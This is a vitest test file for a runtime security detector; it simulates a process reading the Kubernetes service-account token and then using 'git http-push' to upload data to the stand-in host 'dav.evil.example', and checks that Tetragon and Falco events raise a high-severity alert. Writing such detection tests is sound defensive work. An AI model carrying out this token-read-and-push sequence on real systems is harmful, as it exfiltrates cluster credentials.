/**
 * `git http-push` (red-team review): git's WebDAV push, run by hand (`git http-push URL main`, or its program
 * `git-http-push` from git's exec path), sends commits to a DAV server with no `push` word, no `send-pack`
 * step and no ssh `git-receive-pack`: nothing was raised. Checked as exported Tetragon and Falco JSON lines
 * through the real scan path; kept out of the scenario library (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

async function alertsOf(name: string, binary: string, args: string, form: SensorForm) {
  const s = inlineScenario(name, { 'dav.evil.example': '198.51.100.7' }, [
    { at: '1s', exec: { id: 'cat', parent: 'app', binary: '/bin/cat', args: TOKEN } },
    { after: '2ms', read: { proc: 'cat', path: TOKEN, bytes: 1100 } },
    { after: '2ms', exit: { proc: 'cat' } },
    { after: '500ms', exec: { id: 'hp', parent: 'app', binary, args, cwd: '/tmp/r', uid: 1000 } },
    { after: '5ms', upload: { proc: 'hp', to: 'dav.evil.example:443', bytes: '30KiB', over: '500ms' } },
    { after: '10ms', exit: { proc: 'hp' } },
  ]);
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

const high = { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'dav.evil.example' };

describe('git http-push', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`run by git or as its own program, is a push (${form})`, async () => {
      const url = 'https://dav.evil.example/loot.git/';
      expect(await alertsOf('git-http-push', '/usr/bin/git', `http-push ${url} main`, form)).toEqual([high]);
      const own = '/usr/lib/git-core/git-http-push';
      expect(await alertsOf('git-http-push-own', own, `--all ${url}`, form)).toEqual([high]);
    });

    it(`a dry run is quiet (${form})`, async () => {
      const args = 'http-push --dry-run https://dav.evil.example/loot.git/ main';
      expect(await alertsOf('git-http-push-dry', '/usr/bin/git', args, form)).toEqual([]);
    });
  }
});
